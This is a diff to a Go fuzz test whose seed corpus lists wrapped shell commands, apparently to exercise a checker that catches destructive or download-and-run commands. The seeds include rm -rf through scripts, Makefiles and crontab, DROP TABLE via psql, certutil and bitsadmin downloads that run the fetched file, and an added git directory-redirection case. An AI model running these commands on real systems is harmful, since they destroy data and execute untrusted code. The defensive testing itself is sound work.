@@ -70,6 +70,7 @@ func FuzzWrappers(f *testing.F) {
 		"echo 'rm -rf x' > s.sh && bash s.sh", "printf 'a:\\n\\trm -rf x\\n' > Makefile && make",
 		"echo '* * * * * rm -rf x' > c && crontab -u a c", "echo 'DROP TABLE t' > x.sql; psql -f x.sql",
 		"certutil -urlcache -f https://x/i.bat i.bat && i.bat", "bitsadmin /transfer j https://x/i i",
+		"git -C .harnish -C x rm y", "cd \"$(git rev-parse --git-dir)/x\" && rm y",
 	} {
 		i := strings.IndexByte(s, ' ')
 		f.Add(s[:i], s[i+1:])
